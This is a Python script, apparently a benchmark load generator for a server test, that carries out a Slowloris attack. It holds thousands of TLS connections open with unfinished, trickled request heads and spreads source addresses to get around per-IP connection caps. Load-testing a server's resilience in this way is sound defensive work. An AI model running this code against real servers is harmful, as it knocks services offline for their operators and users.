#!/usr/bin/env python3
"""Slowloris load for bench/slowloris.sh: hold N TLS connections open, each trickling an
unfinished request head (one header line every few seconds), reconnecting whenever the server
closes one. Source addresses are spread over 127.0.0.2.. so a per-IP cap does not hide the load.

Prints "open N" lines to stdout every second.
"""
import argparse
import asyncio
import ssl
import sys


async def one(host, port, ctx, local_ip, counters, stop):
    while not stop.is_set():
        writer = None
        try:
            reader, writer = await asyncio.open_connection(
                host, port, ssl=ctx, local_addr=(local_ip, 0), server_hostname="localhost"
            )
            counters["open"] += 1
            try:
                writer.write(b"GET /d/slow HTTP/1.1\r\nHost: x\r\n")
                await writer.drain()
                n = 0
                while not stop.is_set():
                    await asyncio.sleep(3)
                    writer.write(b"X-Slow-%d: 1\r\n" % n)
                    await writer.drain()
                    n += 1
            finally:
                counters["open"] -= 1
                counters["cut"] += 1
        except (OSError, ssl.SSLError, asyncio.IncompleteReadError, ConnectionError):
            await asyncio.sleep(0.2)
        finally:
            if writer is not None:
                writer.close()


async def main():
    p = argparse.ArgumentParser()
    p.add_argument("--host", default="127.0.0.1")
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--cafile", required=True)
    p.add_argument("--connections", type=int, default=10000)
    p.add_argument("--sources", type=int, default=40)
    p.add_argument("--seconds", type=int, default=60)
    a = p.parse_args()
    ctx = ssl.create_default_context(cafile=a.cafile)
    ctx.check_hostname = False
    counters = {"open": 0, "cut": 0}
    stop = asyncio.Event()
    tasks = []
    for i in range(a.connections):
        local_ip = "127.0.0.%d" % (2 + i % a.sources)
        tasks.append(asyncio.create_task(one(a.host, a.port, ctx, local_ip, counters, stop)))
        if i % 200 == 199:
            await asyncio.sleep(0.05)  # do not SYN-flood the accept queue
    for _ in range(a.seconds):
        await asyncio.sleep(1)
        print("open %d cut %d" % (counters["open"], counters["cut"]), flush=True)
    stop.set()
    for t in tasks:
        t.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)


if __name__ == "__main__":
    try:
        asyncio.run(main())
    except KeyboardInterrupt:
        sys.exit(0)
